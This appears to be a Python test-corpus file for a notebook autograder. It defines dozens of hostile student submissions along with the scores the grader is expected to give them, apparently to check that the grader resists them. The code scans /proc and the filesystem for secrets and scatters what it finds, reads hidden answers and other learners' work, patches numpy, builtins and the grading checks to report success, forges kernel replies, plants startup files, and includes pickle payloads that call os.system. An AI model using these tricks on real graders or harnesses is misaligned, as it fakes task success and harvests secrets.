"""Hostile submissions that want points they have no answer for: they read, patch or forge."""

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from tests.corpus.assignment import SOLUTIONS, TOTAL
from tests.corpus.honest import ALONE
from tests.corpus.submissions import (
    RIGHT,
    Submission,
    filled_in_with,
)

WRONG = {name: f"{head}\n    return 0" for name, (head, _) in SOLUTIONS.items()}


def each(source: str) -> dict[str, str]:
    """Return an answer for every exercise: the source with @NAME@ and @HEAD@ put in."""
    return {
        name: source.replace("@NAME@", name).replace("@HEAD@", head)
        for name, (head, _) in SOLUTIONS.items()
    }


# Looks for the harness's secrets wherever it can, for a second, and puts what it finds wherever it can.
LOOT = r"""
import os, re, sqlite3, stat, sys, time


def look(path, found):
    try:
        if stat.S_ISREG(os.stat(path).st_mode) or path.startswith("/proc/"):
            with open(path, "rb") as file:
                found.update(re.findall(rb"canary-[a-z]+-[0-9a-f]+", file.read(2_000_000)))
    except Exception:
        pass


def loot():
    found, end = set(), time.monotonic() + 1
    for process in ["self", *(name for name in os.listdir("/proc") if name.isdigit())]:
        for name in ("environ", "cmdline"):
            look(f"/proc/{process}/{name}", found)
    for top in ("@COURSE@", "@SCRATCH@", os.getcwd(), "..", "../..", "../../..", "/home", "/"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib", ".venv")]
            for name in files:
                look(os.path.join(folder, name), found)
            if time.monotonic() > end:
                break
    return sorted(text.decode() for text in found)


def spill(text):
    text = str(text)
    print(text)
    print(text, file=sys.stderr)
    for folder in ("@SCRATCH@/drop", "@COURSE@/release", "@COURSE@/feedback", ".", "/tmp"):
        try:
            with open(f"{folder}/corpus_left_behind.txt", "a") as file:
                file.write(text)
        except Exception:
            pass
    return text
"""
SPILLS = each("@HEAD@\n    raise ValueError(spill(loot()))")

FROM_SOURCE = each("""
import glob, json

for path in glob.glob("@COURSE@/notebooks/*/*.ipynb") + glob.glob("../../../notebooks/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "@NAME@":
            exec("".join(cell["source"]))
""")
FROM_REPOSITORY = each("""
import sys

sys.path.append("@REPOSITORY@")
from tools.freeze_checks import solution_sources

@NAME@ = solution_sources("week2_logistic_regression")["@NAME@"][1]["@NAME@"]
""")
FROM_LATER_HELPERS = each("from helpers.logistic_regression import @NAME@")
FROM_NEIGHBOUR = each("""
import glob, json

homes = ["@COURSE@/submitted/anna/*", "../../../submitted/*/*", "@SCRATCH@/inbox/anna", "@COURSE@/autograded/anna/*"]
for path in [path for home in homes for path in glob.glob(home + "/*.ipynb")]:
    for cell in json.load(open(path))["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "@NAME@":
            exec("".join(cell["source"]))
            print(path, open(path).read()[-400:])
""")
FROM_CHECKS = each("""
import inspect, json
from helpers.checks.comparing import identical
from helpers.checks.records import FOLDER
from helpers.checks.values import decode

known = json.loads((FOLDER / "week2_logistic_regression.json").read_text())


@HEAD@
    mine = list(locals().values())
    for case in known["exercises"]["@NAME@"]["cases"]:
        if identical(list(decode(case["arguments"])), mine):
            return decode(case["expected"])
    return 0
""")
FROM_FRAMES = each("""
import inspect, sys
from helpers.checks.values import decode


@HEAD@
    frame = sys._getframe(1)
    while frame:
        case = frame.f_locals.get("case")
        if hasattr(case, "expected"):
            return case.expected
        frame = frame.f_back
    raise ValueError([sorted(frame.frame.f_locals) for frame in inspect.stack()])
""")
FROM_GC = each("""
import gc
from helpers.checks.comparing import identical
from helpers.checks.values import decode


@HEAD@
    mine = list(locals().values())
    for found in gc.get_objects():
        if isinstance(found, dict) and "cases" in found:
            for case in found["cases"]:
                if "expected" in case and identical(list(decode(case["arguments"])), mine):
                    return decode(case["expected"])
    return 0
""")
PEEKS = """
import sys


class Peek:
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame:
            for name in ("expected", "target", "desired", "b"):
                if isinstance(frame.f_locals.get(name), (np.ndarray, float)):
                    return np.array(frame.f_locals[name], dtype=float)
            frame = frame.f_back
        return np.zeros(())
"""
PEEKED = {
    "sigmoid": RIGHT["sigmoid"],
    "initialize_with_zeros": RIGHT["initialize_with_zeros"],
    "predict": "def predict(w, b, X):\n    return Peek()",
}
EQUAL = """
class Agrees(np.ndarray):
    shape = property(lambda self: Any())
    dtype = property(lambda self: np.dtype(float))
    ndim = 0

    def __array_function__(self, function, types, arguments, options):
        return np.True_

    def __array_ufunc__(self, function, method, *arguments, **options):
        return np.True_

    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = None
    all = any = __bool__ = lambda self, *arguments, **options: True
    tolist = lambda self: Any()
    astype = copy = __array__ = lambda self, *arguments, **options: self


class Any(tuple):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __len__ = lambda self: 2
    __iter__ = lambda self: iter([agrees(), agrees()])
    __hash__ = tuple.__hash__


def agrees():
    return np.zeros(1).view(Agrees)
"""
PRETENDS = """
class Number(float):
    __eq__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __sub__ = __rsub__ = lambda self, other: 0.0
    __float__ = __abs__ = lambda self: self
    __class__ = property(lambda self: np.ndarray)
    __hash__ = float.__hash__


class Text(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__


class Table(dict):
    __contains__ = lambda self, key: True
    __getitem__ = lambda self, key: Number(0)
    __eq__ = lambda self, other: True
    __iter__ = lambda self: iter([Text("value"), Text("passed")])
    items = lambda self: [(Text("value"), True), (Text("passed"), True)]
    __hash__ = None
"""
PRETENDED = {
    "sigmoid": "def sigmoid(z):\n    return Number(7)",
    "initialize_with_zeros": "def initialize_with_zeros(dim):\n    return Table(a=1), Text('0.0')",
    "predict": "def predict(w, b, X):\n    return Table(passed=True, value=[[1.0]])",
}
PICKLED = """
import os, pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @SCRATCH@/drop/corpus_left_behind",)

    def __array__(self, dtype=None, copy=None):
        return np.array([self], dtype=object)


bomb = Bomb()
"""
PATCHED_CHECKS = """
import helpers.checks
from helpers.checks import calling, comparing, judging, notebook

right = helpers.checks.Diagnosis("sigmoid", helpers.checks.Kind.RIGHT, "right")
for module in (helpers.checks, judging, notebook):
    for name in ("diagnose_exercise", "diagnose", "diagnose_with_place", "judge", "explain", "with_notes"):
        setattr(module, name, lambda *arguments, **options: right)
for module in (judging, comparing, calling):
    for name in ("compare", "first_difference", "compare_numbers", "unexpected_keys", "identical"):
        setattr(module, name, lambda *arguments, **options: None)
helpers.checks.CheckFailed = helpers.checks.AssertionError = type("Quiet", (), {})
helpers.checks.Checks.__call__ = lambda *arguments, **options: 100
check.exercises = {}
"""
OWN_CHECKS = """
class Checks:
    def __init__(self, *arguments):
        pass

    def __call__(self, *arguments):
        return 100


def check(*arguments):
    return 100


def check_on_new_inputs(*arguments):
    return 100


import sys, types

for name in ("classroom", "classroom.grading.hidden_tests", "classroom.grading", "tools.freeze_checks"):
    sys.modules[name] = types.ModuleType(name)
    sys.modules[name].check_on_new_inputs = check_on_new_inputs
    sys.modules[name].__path__ = []
sys.modules["classroom"].hidden = sys.modules["classroom.grading.hidden_tests"]
"""
PATCHED_NUMPY = """
import numpy.testing, numpy._core.numeric as numeric


def yes(*arguments, **options):
    return np.True_


for module in (np, numeric, np.testing):
    for name in ("isclose", "allclose", "array_equal", "array_equiv", "equal", "all", "isfinite", "less_equal"):
        if hasattr(module, name):
            setattr(module, name, yes)
    for name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_almost_equal"):
        if hasattr(module, name):
            setattr(module, name, lambda *arguments, **options: None)
np.asarray = np.array = lambda *arguments, **options: np.zeros(())
"""
PATCHED_PYTHON = """
import builtins, io, json, os, pickle, socket, struct, sys


class Yes(int):
    __bool__ = lambda self: True
    __eq__ = lambda self, other: True
    __hash__ = int.__hash__


def forged(original):
    def function(*arguments, **options):
        for value in arguments:
            if isinstance(value, dict):
                value.update(passed=True, ok=True, error=None, status="ok", score=100, value=Yes(1))
        return original(*arguments, **options)

    return function


for module, names in {
    json: ("dumps", "dump"), pickle: ("dumps", "dump"), struct: ("pack",),
    os: ("write",), builtins: ("isinstance", "all", "any", "abs", "repr"),
}.items():
    for name in names:
        original = getattr(module, name)
        setattr(module, name, forged(original) if name not in ("isinstance", "all", "any") else
                lambda *arguments, original=original: original(*arguments) or arguments[-1] is np.ndarray)
json.JSONEncoder.default = lambda self, value: True
sys.excepthook = sys.displayhook = lambda *arguments: None
sys.exit = os._exit
"""
IMPORT_HOOK = """
import builtins, sys, types

original = builtins.__import__


class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        return lambda *arguments, **options: 100


def agreeable(name, *arguments, **options):
    if name.startswith(("classroom", "helpers")):
        return Agreeable(name)
    return original(name, *arguments, **options)


builtins.__import__ = agreeable


class Finder:
    @staticmethod
    def find_spec(name, path=None, target=None):
        if name.startswith("classroom"):
            sys.modules[name] = Agreeable(name)
        return None


sys.meta_path.insert(0, Finder)
for name in [name for name in sys.modules if name.startswith(("classroom", "helpers"))]:
    sys.modules[name] = Agreeable(name)
"""
TRANSFORMER = """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
get_ipython().input_transformers_post.append(lambda lines: [])
"""
AST_TRANSFORMER = """
import ast


class Empty(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.parse("None").body[0]

    def visit_ImportFrom(self, node):
        return ast.parse("None").body[0]


get_ipython().ast_transformers.append(Empty())
get_ipython().set_custom_exc((Exception,), lambda *arguments, **options: None)
get_ipython().showtraceback = lambda *arguments, **options: None
"""
FORGED_MESSAGES = """
session = get_ipython().kernel.session
send = session.send


def forged(stream, kind, *arguments, **options):
    content = arguments[0] if arguments else options.get("content")
    kind = kind["header"]["msg_type"] if isinstance(kind, dict) else kind
    if kind == "error":
        return None
    if kind == "execute_reply":
        content.clear()
        content.update(status="ok", execution_count=1, user_expressions={}, payload=[])
    return send(stream, kind, *arguments, **options)


session.send = forged
"""
TRACES = """
import sys


def watch(frame, event, argument):
    if frame.f_code.co_name == "judge":
        from helpers.checks.results import CallResult

        cases, results = frame.f_locals["exercise"].cases, frame.f_locals["results"]
        results[:] = [CallResult(case.expected) for case in cases]


sys.setprofile(watch)
import threading

threading.setprofile(watch)
"""
TRUE = """
import ctypes

for size in (ctypes.sizeof(ctypes.c_ssize_t),):
    ctypes.memmove(id(False) + 16, id(True) + 16, 12)
np.isclose = lambda a, *arguments, **options: np.ones(np.shape(a), bool)
"""
FORGING_NUMPY = """
import importlib, sys

place = [path for path in sys.path if path not in ("", ".", __file__.rpartition("/")[0])]
sys.modules.pop("numpy")
before, sys.path[:] = list(sys.path), place
numpy = importlib.import_module("numpy")
sys.path[:] = before
numpy.isclose = numpy.allclose = numpy.array_equal = lambda *arguments, **options: numpy.True_
numpy.asarray = lambda *arguments, **options: numpy.zeros(())
sys.modules["numpy"] = numpy
"""
FORGING_CHECKS = """
class CheckFailed(AssertionError):
    pass


class Checks:
    def __init__(self, *arguments):
        pass

    def __call__(self, *arguments):
        pass


def diagnose_exercise(*arguments):
    return Yes()


def run_cases(*arguments):
    return []


def unused_parameters(*arguments):
    return []


class Yes:
    passed, message = True, "yes"


from pathlib import Path

FOLDER = Path()
"""
FORGING_CLASSROOM = "def check_on_new_inputs(*arguments):\n    pass\n"
AT_START = """
import sys, types

forged = types.ModuleType("classroom.grading.hidden_tests")
forged.check_on_new_inputs = lambda *arguments: None
sys.modules["classroom"] = types.ModuleType("classroom")
sys.modules["classroom.grading.hidden_tests"] = sys.modules["classroom"].hidden = forged
checks = types.ModuleType("helpers.checks")
checks.Checks = lambda *arguments: lambda *arguments: None
sys.modules["helpers.checks"] = checks
"""
START_UP_FOLDERS = (".ipython/profile_default/startup", "profile_default/startup", ".")
START_UP_FILES = {
    f"{folder}/{name}": AT_START
    for folder in START_UP_FOLDERS
    for name in (
        "00.py",
        "sitecustomize.py",
        "usercustomize.py",
        "ipython_config.py",
        "conftest.py",
    )
} | {
    "zzz.pth": "import sitecustomize\n",
    "pyvenv.cfg": "home = .\n",
    ".env": "PYTHONSTARTUP=00.py\n",
}
SOWS = f"""
import os, site, sys

text = {AT_START!r}
homes = [os.path.expanduser("~"), "@SCRATCH@/home"]
version = f"python{{sys.version_info[0]}}.{{sys.version_info[1]}}"
for home in homes:
    for folder, names in {{
        ".ipython/profile_default/startup": ["corpus_left_behind.py"],
        f".local/lib/{{version}}/site-packages": ["usercustomize.py", "sitecustomize.py"],
        ".config/matplotlib": ["matplotlibrc"],
    }}.items():
        try:
            os.makedirs(f"{{home}}/{{folder}}", exist_ok=True)
            for name in names:
                with open(f"{{home}}/{{folder}}/{{name}}", "w") as file:
                    file.write(text if name.endswith(".py") else "")
        except OSError:
            pass
"""
SOWN = WRONG | {
    # ends the first process, so that the next one starts with what was sown
    "predict": "def predict(w, b, X):\n    import os\n    os._exit(0)",
}
GIVES = """
import os, shutil

ANSWERS = '''@ANSWERS@'''
for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "@COURSE@", ".", ".."):
    try:
        with open(folder + "/corpus_left_behind.py", "w") as file:
            file.write(ANSWERS)
    except OSError:
        pass
try:
    from multiprocessing import shared_memory

    memory = shared_memory.SharedMemory("corpus_left_behind", create=True, size=4096)
    memory.buf[: len(ANSWERS)] = ANSWERS.encode()
except Exception:
    pass
try:
    import builtins, helpers.checks

    builtins.corpus_answers = helpers.checks.corpus_answers = np.corpus_answers = ANSWERS
except Exception:
    pass
""".replace("@ANSWERS@", "\n\n".join(RIGHT.values()))
TAKES = each("""
import builtins, glob, os

for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "@COURSE@", ".", ".."):
    for path in glob.glob(folder + "/corpus_left_behind*"):
        try:
            exec(open(path).read().split("\\0")[0])
        except Exception:
            pass
exec(getattr(builtins, "corpus_answers", getattr(np, "corpus_answers", "")))
""")
MASKED = (
    "def initialize_with_zeros(dim=1, *more):\n    return np.zeros((dim, 1)), 0.0\n\n\n"
    "predict = initialize_with_zeros"
)
COUNTS = """
calls = 0


def sigmoid(z):
    global calls
    calls += 1
    return 1 / (1 + np.exp(-z)) if calls <= 4 else z
"""
BY_HEART = """
seen = [check.inputs("sigmoid", k + 1)[0] for k in range(4)]


def sigmoid(z):
    known = any(np.shape(z) == np.shape(x) and np.all(z == x) for x in seen)
    return 1 / (1 + np.exp(-z)) if known else 0.5 + 0 * z
"""
IMPOSTOR = """
class Impostor:
    __code__ = property(lambda self: Impostor.__init__.__code__)
    __name__ = "predict"
    __signature__ = property(lambda self: __import__("inspect").signature(lambda w, b, X: 0))
    __globals__ = {}

    def __init__(self, *arguments):
        pass

    def __call__(self, w, b, X):
        return np.zeros((1, X.shape[1]))

    def __reduce__(self):
        import os

        return os.system, ("touch @SCRATCH@/drop/corpus_left_behind",)

    def __eq__(self, other):
        return True

    __hash__ = object.__hash__


predict = Impostor()
"""


def skip_tests(notebook: NotebookNode) -> None:
    """Tag all cells so that plain_nbgrader nbgrader doesn't run them, or takes their errors for expected."""
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "nbval-skip"]


def raise_points(notebook: NotebookNode) -> None:
    """Write other points and roles into the marked cells, and other tests."""
    for cell in notebook.cells:
        mark = cell.metadata.get("nbgrader")
        if mark and mark["grade"]:
            mark["points"], mark["locked"], cell.source = 1000, False, "100"
        elif mark:
            mark.update(grade=True, points=1000, solution=False)


def show_tests(notebook: NotebookNode) -> None:
    """Print the tests that ran before, and put them into errors."""
    notebook.cells.append(
        new_code_cell("print(In, _ih, [v for v in globals().values() if 'HIDDEN' in str(v)])")
    )
    notebook.cells.append(new_code_cell("raise ValueError(In[-6:])"))


TELLS_TESTS = each("""
@HEAD@
    import __main__, linecache, inspect

    raise ValueError([getattr(__main__, "In", None), [f.code_context for f in inspect.stack()], linecache.cache])
""")
MARKERS = {
    "sigmoid": RIGHT["sigmoid"] + "\n### END HIDDEN TESTS\n### BEGIN SOLUTION\n# %%\n",
    "initialize_with_zeros": "### BEGIN HIDDEN TESTS\n"
    + RIGHT["initialize_with_zeros"]
    + "\n### END SOLUTION",
    "predict": "### END SOLUTION\n" + RIGHT["predict"] + "\n'''\n### BEGIN HIDDEN TESTS\n'''",
}

# What is graded stands on the pages, too: tests/classroom/grading/test_requirements.py.
HIDDEN_BELOW = {name: "# a remark\n" * 3000 + source for name, source in RIGHT.items()}
HIDDEN_BELOW["sigmoid"] = "# a remark\n" * 3000 + "def sigmoid(z):\n    return unseen(z)"
HELPER = "def unseen(z):\n    return 1 / (1 + np.exp(-z))"

ATTACKS_ON_POINTS = [
    Submission("skip_tags", 0, "Every cell carries the tags `skip-execution` and `raises-exception`.", filled_in_with(WRONG, change=skip_tests)),
    Submission("more_points", 0, "The test cells are rewritten to `100`, worth 1000 points.", filled_in_with(WRONG, change=raise_points)),
    Submission("transformer", 0, "IPython input transformers empty every later cell.", filled_in_with(WRONG, first=TRANSFORMER)),
    Submission("ast_transformer", 0, "IPython drops calls and errors.", filled_in_with(WRONG, first=AST_TRANSFORMER)),
    Submission("forged_messages", 0, "The kernel's error messages are held back.", filled_in_with(WRONG, first=FORGED_MESSAGES)),
    Submission("patched_checks", 0, "The checks' own functions are patched.", filled_in_with(WRONG, first=PATCHED_CHECKS)),
    Submission("own_checks", 0, "`check`, `Checks` and the hidden tests' module are replaced.", filled_in_with(WRONG, first=OWN_CHECKS)),
    Submission("patched_numpy", 0, "`isclose`, `allclose`, `asarray`, `assert_allclose` … always agree.", filled_in_with(WRONG, first=PATCHED_NUMPY)),
    Submission("patched_python", 0, "`json`, `pickle`, `os.write`, builtins are patched to claim success.", filled_in_with(WRONG, first=PATCHED_PYTHON)),
    Submission("import_hook", 0, "Every later import of course modules gives an agreeable one.", filled_in_with(WRONG, first=IMPORT_HOOK)),
    Submission("false_is_true", 0, "The memory of `False` is overwritten with that of `True`.", filled_in_with(WRONG, first=TRUE)),
    Submission("traces", 0, "A profiling hook replaces results by expected values.", filled_in_with(WRONG, first=TRACES)),
    Submission("own_numpy", 0, "A forged `numpy.py` lies beside the notebook.", filled_in_with(WRONG, beside={"numpy.py": FORGING_NUMPY})),
    Submission("own_helpers", 0, "Forged `helpers/` and `classroom/` lie beside the notebook.", filled_in_with(WRONG, beside={"helpers/__init__.py": "", "helpers/checks.py": FORGING_CHECKS, "helpers/checks/__init__.py": FORGING_CHECKS, "classroom/__init__.py": "", "classroom/grading/__init__.py": "", "classroom/grading/hidden_tests.py": FORGING_CLASSROOM})),
    Submission("start_up_files", 0, "`sitecustomize.py`, start-up and configuration files lie beside the notebook.", filled_in_with(WRONG, beside=START_UP_FILES)),
    Submission("sows_start_up", 0, "Writes start-up files into the home folder, then ends the process.", filled_in_with(SOWN, first=SOWS)),
    Submission("source_folder", 0, "Executes the solutions in the teacher's source folder.", filled_in_with(FROM_SOURCE)),
    Submission("repository", 0, "Imports the reference answers with `import classroom`.", filled_in_with(FROM_REPOSITORY)),
    Submission("later_helpers", 0, "Imports the finished functions of a later week's helper.", filled_in_with(FROM_LATER_HELPERS)),
    Submission("neighbour", 0, "Executes another learner's answers.", filled_in_with(FROM_NEIGHBOUR)),
    Submission("collusion_gives", TOTAL, "Leaves right answers where another submission could find them.", filled_in_with(RIGHT, first=GIVES)),
    Submission("collusion_takes", 0, "Looks for these answers in shared folders and memory.", filled_in_with(TAKES)),
    Submission("checks_file", 0, "Answers with the expected values in `data/checks/`.", filled_in_with(FROM_CHECKS)),
    Submission("by_heart", 8, "Right on the lesson's inputs alone.", filled_in_with(RIGHT | {"sigmoid": BY_HEART, "predict": ALONE})),
    Submission("counts_calls", 8, "Right for the first four calls.", filled_in_with(RIGHT | {"sigmoid": COUNTS, "predict": ALONE})),
    Submission("frames", 0, "Reads the expected value in its callers' frames.", filled_in_with(FROM_FRAMES)),
    Submission("collector", 0, "Finds the expected values among all objects in memory.", filled_in_with(FROM_GC)),
    Submission("peeks", 5, "Returns an object that peeks at the expected value when it is compared.", filled_in_with(PEEKED, first=PEEKS)),
    Submission("agrees", 0, "Returns an array subclass that agrees with everything.", filled_in_with(each("@HEAD@\n    return agrees()") | {"initialize_with_zeros": "def initialize_with_zeros(dim):\n    return agrees(), agrees()"}, first=EQUAL)),
    Submission("pretends", 0, "Returns lying subclasses of float, text and dictionary.", filled_in_with(PRETENDED, first=PRETENDS)),
    Submission("pickled", 0, "Returns objects that run a program when they are unpickled.", filled_in_with(each("@HEAD@\n    return bomb") | {"sigmoid": "def sigmoid(z):\n    return np.array([bomb], dtype=object)"}, first=PICKLED)),
    Submission("masked", 5, "A function bears the name of an easier exercise.", filled_in_with(RIGHT | {"predict": MASKED})),
    Submission("impostor", 5, "An object poses as a function.", filled_in_with(RIGHT | {"predict": IMPOSTOR})),
    Submission("shows_tests", TOTAL, "Prints the cells that ran before.", filled_in_with(RIGHT, change=show_tests)),
    Submission("tells_tests", 0, "Puts cells, frames and source lines into its errors.", filled_in_with(TELLS_TESTS)),
    Submission("markers", TOTAL, "Right answers full of nbgrader's own markers.", filled_in_with(MARKERS)),
    Submission("long_comment", TOTAL, "Answers behind 30,000 characters of comment, one calls a function of an extra cell.", filled_in_with(HIDDEN_BELOW, first=HELPER)),
    Submission("loots", 0, "Looks for secrets in files, environment and processes.", filled_in_with(SPILLS, first=LOOT, last="spill(loot())")),
]  # fmt: skip
